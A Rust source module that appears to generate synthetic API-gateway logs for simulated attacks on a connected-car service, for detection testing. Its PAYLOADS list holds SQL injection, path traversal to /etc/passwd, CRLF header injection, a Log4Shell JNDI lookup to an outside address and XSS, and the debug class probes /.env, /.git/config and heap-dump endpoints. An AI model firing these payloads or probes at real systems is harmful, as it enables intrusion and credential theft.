//! Attacks through the API gateway: what is asked for, how much of it, and with whose token.

use super::super::backend::Call;
use super::super::clock::{HOUR, MINUTE, SECOND};
use super::super::model::vin;
use super::super::place::CITIES;
use super::super::session::Session;
use super::super::stream::Stream;
use super::script::Script;
use super::{Class, Variant};

use Variant::{Noisy, Plain, Slow, Spread};

pub(super) const CLASSES: &[Class] = &[
    Class {
        name: "vin-enumeration",
        story: "vehicle numbers are tried one after another with an owner's token",
        streams: &[Stream::ApiGateway],
        variants: &[Plain, Slow, Spread, Noisy],
        plan: enumeration,
    },
    Class {
        name: "bulk-export",
        story: "a partner's key fetches positions of cars by the thousand",
        streams: &[Stream::ApiGateway],
        variants: &[Plain, Slow],
        plan: export,
    },
    Class {
        name: "insider-peeping",
        story: "an employee looks up customers who have not called",
        streams: &[Stream::ApiGateway],
        variants: &[Plain, Slow],
        plan: peeping,
    },
    Class {
        name: "token-reuse",
        story: "a dealer's token is copied, and used from two countries at a time",
        streams: &[Stream::ApiGateway],
        variants: &[Plain, Slow],
        plan: reuse,
    },
    Class {
        name: "token-forgery",
        story: "tokens with the algorithm taken out, or signed by a key that nobody knows, are accepted",
        streams: &[Stream::ApiGateway],
        variants: &[Plain],
        plan: forgery,
    },
    Class {
        name: "api-injection",
        story: "queries and paths that are really code",
        streams: &[Stream::ApiGateway],
        variants: &[Plain, Slow],
        plan: injection,
    },
    Class {
        name: "debug-endpoint",
        story: "a door that should not exist answers: a heap dump leaves the house",
        streams: &[Stream::ApiGateway],
        variants: &[Plain],
        plan: debug,
    },
];

fn enumeration(script: &mut Script<'_>) -> Option<()> {
    let count = if script.variant == Slow { 140 } else { 90 };
    let every = script.pace(3, 60);
    let start = script.begin(count * every)?;
    let car = script.victim(|_| true)?;
    let world = script.world;
    let owner = &world.owners[car].session;
    let account = owner.account.clone();
    script.name("user", &account);
    let many = if script.variant == Spread { 5 } else { 1 };
    let sessions: Vec<Session> = (0..many)
        .map(|_| {
            let origin = script.origin();
            script.steal(owner, &origin)
        })
        .collect();
    let serial = script.random.between(100_000, 800_000).unsigned_abs();
    for index in 0..count {
        let at = start + index * every + script.random.between(0, every / 2);
        let exists = index % 5 == 0;
        let number = if exists {
            world.vehicles[script.random.index(world.vehicles.len())].vin.clone()
        } else {
            vin(world.vehicles[car].model, serial + index.unsigned_abs(), &mut script.random)
        };
        let status = if exists { 403 } else { 404 };
        let call = Call::new("GET", "/vehicles/{vin}/status").about(&number, "-").status(status);
        let who = sessions[index as usize % sessions.len()].clone();
        script.request(at, &who, call);
        if script.variant == Noisy && index % 4 == 0 {
            let own = Call::new("GET", "/vehicles/{vin}/status").about(&world.vehicles[car].vin, &account);
            script.request(at + 500, &who, own);
        }
    }
    Some(())
}

fn export(script: &mut Script<'_>) -> Option<()> {
    let every = script.pace(2, 40);
    let count = 250;
    let start = script.begin(count * every)?;
    let partner = script.partner()?;
    let world = script.world;
    let origin = script.origin();
    let who = script.steal(&world.partners[partner].session, &origin);
    script.name("user", &who.account);
    for index in 0..count {
        let car = script.random.index(world.vehicles.len());
        let (vin, owner) = (&world.vehicles[car].vin, &world.owners[car].session.account);
        let call =
            Call { bytes_out: 42_000, ..Call::new("GET", "/vehicles/{vin}/location").about(vin, owner) };
        script.request(start + index * every, &who, call);
        if index % 10 == 0 {
            let scopes = &["export:read"];
            let items = Some(script.random.between(4_000, 9_000));
            let call = Call { items, scopes, bytes_out: 8_400_000, ..Call::new("GET", "/exports/trips") };
            script.request(start + index * every + SECOND, &who, call);
        }
    }
    Some(())
}

fn peeping(script: &mut Script<'_>) -> Option<()> {
    let (count, every) = if script.variant == Slow { (60, 90 * SECOND) } else { (60, 12 * SECOND) };
    let start = script.begin(count * every)?;
    let agent = script.agent()?;
    let world = script.world;
    let mut who = world.agents[agent].session.clone();
    who.issued = start - HOUR;
    let favourite = script.victim(|_| true)?;
    for index in 0..count {
        let car = if index % 4 == 0 { favourite } else { script.random.index(world.vehicles.len()) };
        let (vin, owner) = (&world.vehicles[car].vin, &world.owners[car].session.account);
        let route = if index % 2 == 0 { "/owners/lookup" } else { "/vehicles/{vin}/location-history" };
        // No case is named: nobody has called.
        let call = Call { items: Some(1), scopes: &["customer:read"], ..Call::new("GET", route) };
        script.request(start + index * every, &who, call.about(vin, owner));
    }
    Some(())
}

fn reuse(script: &mut Script<'_>) -> Option<()> {
    let every = script.pace(15, 120);
    let start = script.begin(20 * every)?;
    let car = script.victim(|_| true)?;
    let world = script.world;
    let technician = script.technician()?;
    let origin = script.origin();
    let mut owner = world.technicians[technician].session.clone();
    owner.renew(start - MINUTE, &mut script.random);
    let mut thief = script.steal(&owner, &origin);
    (thief.jti, thief.session_id) = (owner.jti.clone(), owner.session_id.clone());
    (thief.country, thief.asn) = if owner.country == "SE" { ("RO", 60_729) } else { ("SE", 39_351) };
    script.name("token", &owner.jti);
    let vin = world.vehicles[car].vin.clone();
    for index in 0..20 {
        let who = if index % 2 == 0 { &owner } else { &thief };
        let call = Call::new("GET", "/vehicles/{vin}/location").about(&vin, &owner.account);
        script.request(start + index * every, who, call);
    }
    Some(())
}

fn forgery(script: &mut Script<'_>) -> Option<()> {
    let start = script.begin(5 * MINUTE)?;
    let car = script.victim(|_| true)?;
    let world = script.world;
    let origin = script.origin();
    let who = script.steal(&world.owners[car].session, &origin);
    script.name("user", &who.account);
    for index in 0..10 {
        let signed = if index % 2 == 0 { ("none", "") } else { ("HS256", "attacker-1") };
        let route = ["/vehicles/{vin}/location", "/vehicles/{vin}/status"][script.round as usize % 2];
        let call = Call { signed, ..Call::new("GET", route) };
        let call = call.about(&world.vehicles[car].vin, &who.account);
        script.request(start + index * 20 * SECOND, &who, call);
    }
    Some(())
}

const PAYLOADS: [(&str, &str); 6] = [
    ("/vehicles/search", "q=%27%20OR%201%3D1--"),
    ("/vehicles/search", "q=1%20UNION%20SELECT%20email,password%20FROM%20users"),
    ("/documents/..%2f..%2f..%2fetc%2fpasswd", ""),
    ("/owners/register", "email=victim%40mail.example%0d%0aX-Admin:%20true"),
    ("/reports", "format=${jndi:ldap://198.51.100.7/a}"),
    ("/vehicles/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"),
];

fn injection(script: &mut Script<'_>) -> Option<()> {
    let every = script.pace(4, 240);
    let start = script.begin(24 * every)?;
    let origin = script.origin();
    let account = format!("o-{}", script.random.hex(8));
    script.name("user", &account);
    let who = Session::owner(account, &CITIES[0], &mut script.random);
    let who = script.steal(&who, &origin);
    for index in 0..24 {
        let (path, query) = PAYLOADS[index as usize % PAYLOADS.len()];
        let status = [400, 500, 403, 200][index as usize % 4];
        let mut call = Call::new("GET", "/vehicles/search").status(status);
        (call.path, call.query) = (Some(path.into()), Some(query.into()));
        call.waf = if status == 403 { "block" } else { "count" };
        script.request(start + index * every, &who, call);
    }
    Some(())
}

fn debug(script: &mut Script<'_>) -> Option<()> {
    let start = script.begin(5 * MINUTE)?;
    let origin = script.origin();
    let mut who = Session::desk(String::new(), "service", ("anonymous", "web"), &CITIES[0]);
    (who.ip, who.country, who.asn) = (origin.ip, origin.country, origin.asn);
    who.agent = "curl/8.5.0".into();
    let doors = [
        [("/actuator/env", 18_000), ("/actuator/heapdump", 214_000_000), ("/.git/config", 300)],
        [("/debug/pprof/heap", 9_000_000), ("/actuator/configprops", 40_000), ("/.env", 900)],
    ];
    for (index, (door, bytes)) in (0..).zip(doors[script.round as usize % doors.len()]) {
        let call = Call { bytes_out: bytes, ..Call::new("GET", door) };
        script.request(start + index * 30 * SECOND, &who, call);
    }
    Some(())
}
